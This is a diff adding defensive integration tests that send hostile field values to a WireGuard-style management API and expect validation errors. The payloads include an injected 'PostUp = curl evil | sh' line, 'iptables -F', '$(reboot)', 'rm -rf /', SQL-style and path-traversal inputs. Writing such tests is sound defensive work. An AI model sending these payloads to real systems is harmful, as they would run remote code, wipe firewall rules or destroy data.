@@ -46,6 +46,10 @@ class HostileInputIT {
         then(api.deleteClient).shouldHaveNoInteractions();
         then(api.getClientConfig).shouldHaveNoInteractions();
         then(api.panelOverview).shouldHaveNoInteractions();
+        then(api.createInterface).shouldHaveNoInteractions();
+        then(api.updateInterface).shouldHaveNoInteractions();
+        then(api.deleteInterface).shouldHaveNoInteractions();
+        then(api.sync).shouldHaveNoInteractions();
     }
 
     /** A valid login request padded with spaces to exactly {@code size} bytes. */
@@ -99,6 +103,97 @@ class HostileInputIT {
         void aHugeNumberIs400() {
             api.manage("{\"resource\": \"client\", \"action\": \"create\", \"name\": \"a\", \"expires\": \"2026-12-01\", "
                     + "\"traffic\": " + "9".repeat(5_000) + "}").assertError(400, "VALIDATION_FAILED");
+            noUseCaseCalled();
+        }
+    }
+
+    /** The interface and sync actions: hostile field values never reach a use case and never cost a 5xx. */
+    @Nested
+    class InterfaceAndSyncActions {
+        @ParameterizedTest
+        @ValueSource(strings = {
+                "create|\"address_range\": \"10.0.0.1/24\\nPostUp = curl evil | sh\", \"port\": 51820",
+                "create|\"address_range\": \"10.0.0.1/24; iptables -F\", \"port\": 51820",
+                "create|\"address_range\": \"$(reboot)/24\", \"port\": 51820",
+                "create|\"address_range\": \"\\u202e10.0.0.1/24\", \"port\": 51820",
+                "create|\"address_range\": \"10.0.0.1/24\\u0000\", \"port\": 51820",
+                "create|\"address_range\": \"10.0.0.1/\\u0662\\u0664\", \"port\": 51820",
+                "create|\"address_range\": \"10.0.0.1/99999999999999999999\", \"port\": 51820",
+                "create|\"address_range\": \"10.0.0.1/-8\", \"port\": 51820",
+                "create|\"address_range\": \"0x0a.0.0.1/24\", \"port\": 51820",
+                "create|\"address_range\": \"fd00::1/64\", \"port\": 51820",
+                "create|\"address_range\": {\"range\": \"10.0.0.1/24\"}, \"port\": 51820",
+                "create|\"address_range\": [\"10.0.0.1/24\"], \"port\": 51820",
+                "create|\"address_range\": \"10.0.0.1/24\", \"port\": \"51820\\n\"",
+                "create|\"address_range\": \"10.0.0.1/24\", \"port\": 99999999999999999999999999",
+                "create|\"address_range\": \"10.0.0.1/24\", \"port\": 1e3",
+                "create|\"address_range\": \"10.0.0.1/24\", \"port\": -0",
+                "create|\"address_range\": \"10.0.0.1/24\", \"port\": \"\\u0665\\u0661\\u0668\\u0662\\u0660\"",
+                "create|\"address_range\": \"10.0.0.1/24\", \"port\": {}",
+                "update|\"name\": \"wg0; rm -rf /\", \"status\": true",
+                "update|\"name\": \"wg0\\n\", \"status\": true",
+                "update|\"name\": \"wg\\u0660\", \"status\": true",
+                "update|\"name\": \"../wg0\", \"port\": 1",
+                "update|\"name\": [\"wg0\"], \"status\": true",
+                "update|\"name\": \"wg0\", \"status\": null",
+                "update|\"name\": \"wg0\", \"status\": {\"up\": true}",
+                "update|\"name\": \"wg0\", \"status\": \"false\"",
+                "update|\"name\": \"wg0\", \"address\": [\"10.0.0.1/24\"]",
+                "update|\"name\": \"wg0\", \"address\": \"10.0.0.1/24\\r\\n[Peer]\"",
+                "update|\"name\": \"wg0\", \"port\": -51820",
+                "delete|\"wg_id\": \"0x1\"",
+                "delete|\"wg_id\": \"\\u0661\"",
+                "delete|\"wg_id\": \"1 OR 1=1\"",
+                "delete|\"wg_id\": 1e2",
+                "delete|\"wg_id\": 99999999999999999999999",
+                "delete|\"wg_id\": {\"id\": 1}",
+                "delete|\"wg_id\": null"})
+        void hostileFieldValuesAre400InTheEnvelope(String actionAndFields) {
+            int bar = actionAndFields.indexOf('|');
+            String body = "{\"resource\": \"interface\", \"action\": \"" + actionAndFields.substring(0, bar) + "\", \"data\": {"
+                    + actionAndFields.substring(bar + 1) + "}}";
+
+            String message = api.manage(body).assertError(400, "VALIDATION_FAILED");
+
+            assertFalse(message.contains("\n") || message.contains("\r") || message.contains("\u0000"), message);
+            noUseCaseCalled();
+        }
+
+        @Test
+        void aHugeInterfaceNameIsNotEchoedBack() {
+            String message = api.manage("{\"resource\": \"interface\", \"action\": \"update\", \"name\": \"wg" + "9".repeat(200_000)
+                    + "\", \"status\": true}").assertError(400, "VALIDATION_FAILED");
+
+            assertTrue(message.length() < 300, () -> "message of " + message.length() + " characters");
+            noUseCaseCalled();
+        }
+
+        @Test
+        void aHugeRangeIsNotEchoedBack() {
+            String message = api.manage("{\"resource\": \"interface\", \"action\": \"create\", \"address_range\": \""
+                    + "1".repeat(200_000) + "/24\", \"port\": 51820}").assertError(400, "VALIDATION_FAILED");
+
+            assertTrue(message.length() < 300, () -> "message of " + message.length() + " characters");
+            noUseCaseCalled();
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"\"now\"", "[]", "42", "true"})
+        void aSyncTriggerWithDataThatIsNotAnObjectIs400(String data) {
+            api.manage("{\"resource\": \"sync\", \"action\": \"trigger\", \"data\": " + data + "}")
+                    .assertError(400, "VALIDATION_FAILED");
+            noUseCaseCalled();
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"{\"resource\": \"interface\", \"action\": \"create\", \"address_range\": \"10.3.0.1/24\", \"port\": 1}",
+                "{\"resource\": \"interface\", \"action\": \"update\", \"name\": \"wg0\", \"status\": false}",
+                "{\"resource\": \"interface\", \"action\": \"delete\", \"wg_id\": 0}",
+                "{\"resource\": \"sync\", \"action\": \"trigger\"}"})
+        void theNewActionsNeedAValidToken(String body) {
+            api.post("/api/manage", body).assertError(401, "UNAUTHENTICATED");
+            api.send(HttpRequest.newBuilder(api.uri("/api/manage")).header("Authorization", "Bearer NONE")
+                    .POST(BodyPublishers.ofString(body)).build()).assertError(401, "UNAUTHENTICATED");
             noUseCaseCalled();
         }
     }
